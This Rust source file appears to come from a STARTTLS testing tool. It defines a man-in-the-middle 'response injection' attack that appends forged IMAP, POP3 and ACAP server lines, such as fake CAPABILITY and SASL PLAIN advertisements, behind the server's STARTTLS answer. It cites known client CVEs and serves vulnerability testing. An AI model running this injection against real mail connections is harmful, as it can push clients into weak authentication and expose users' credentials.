//! Sends answers behind the server's answer to STARTTLS.

use super::kit::next_tag;
use super::{Attack, Deciding, Group, group, tamper};
use crate::base::{Protocol, Side};
use crate::harm::success;
use crate::proto::Answer;

static DECIDING: &[Deciding] = &[Deciding {
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    given: &[],
    right: &[],
    wrong: &["client.keeps-buffer=on"],
}];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "response-injection",
    title: "Inject answers",
    about: "Adds lines in the same segment behind the positive answer to STARTTLS: a client that keeps them takes them for the server's, inside TLS.",
    group: Group::Injection,
    known: &[
        group::USENIX,
        "CVE-2020-15685 Thunderbird",
        "CVE-2020-14954 Mutt, NeoMutt",
        "CVE-2021-22947 curl",
        "CVE-2020-9941 Apple Mail",
    ],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: &[],
    build: |_, dialect| {
        let mut asked = None;
        tamper(move |message, moves| {
            moves.pass();
            if message.from == Side::Client {
                asked = dialect.starttls_tag(message.octets);
                return;
            }
            let Some(tag) = asked.take() else { return };
            let done = (dialect.answer)(&next_tag(&tag), Answer::Ok, "done");
            moves.add(match dialect.protocol {
                Protocol::Imap => [&b"* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n"[..], &done].concat(),
                Protocol::Pop3 => b"+OK\r\nSASL PLAIN\r\n.\r\n".to_vec(),
                Protocol::Acap => b"* ACAP (SASL \"PLAIN\")\r\n".to_vec(),
            });
        })
    },
    success: &success::BELIEVED_INSIDE,
    deciding: DECIDING,
};
